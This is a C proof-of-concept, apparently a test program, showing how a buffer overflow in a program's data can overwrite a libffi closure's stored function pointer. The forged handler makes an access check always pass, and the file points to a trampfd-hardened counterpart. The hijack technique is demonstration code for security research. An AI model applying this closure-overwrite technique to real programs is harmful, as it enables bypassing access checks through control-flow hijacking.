/*
 * A buffer overflow takes over a libffi closure.
 *
 * libffi stores the function of a closure and its argument in writable memory. Here, a name that is too long overwrites
 * them. overflow-trampfd.c is the same program with trampfd.
 */
#include <ffi.h>

struct callback {
    ffi_closure closure;
};

#include "overflow.h"

static ffi_cif cif;
static ffi_type *arguments[] = {&ffi_type_sint};

static void handle(ffi_cif *unused, void *result, void **values, void *level)
{
    (void)unused;
    *(ffi_arg *)result = *(int *)values[0] <= (intptr_t)level;
}

/* libffi allocates the closure together with data of the program. */
static struct session *make_session(intptr_t level, opens **callback)
{
    void *code;
    struct session *session = ffi_closure_alloc(sizeof *session, &code);
    if (session == NULL ||
        ffi_prep_closure_loc(&session->callback.closure, &cif, handle, (void *)level, code) != FFI_OK) {
        fputs("Cannot create a closure.\n", stderr);
        exit(1);
    }
    *callback = (opens *)(uintptr_t)code;
    return session;
}

static int open_all(void) { return 1; }

/* A function that libffi calls instead of `handle`. */
static void handle_nothing(ffi_cif *unused, void *result, void **values, void *level)
{
    (void)unused, (void)values, (void)level;
    *(ffi_arg *)result = (ffi_arg)open_all();
}

/* Copies the session and replaces the closure's function: the attacker knows the program and its addresses. */
static struct session forge_session(const struct session *victim)
{
    struct session forged = *victim;
    forged.callback.closure.fun = handle_nothing;
    return forged;
}

int main(void)
{
    if (ffi_prep_cif(&cif, FFI_DEFAULT_ABI, 1, &ffi_type_sint, arguments) != FFI_OK || !attack())
        return 1;
    puts("The overflow replaced the function of the closure.");
    puts("EXIT-SUCCESS");
    return 0;
}
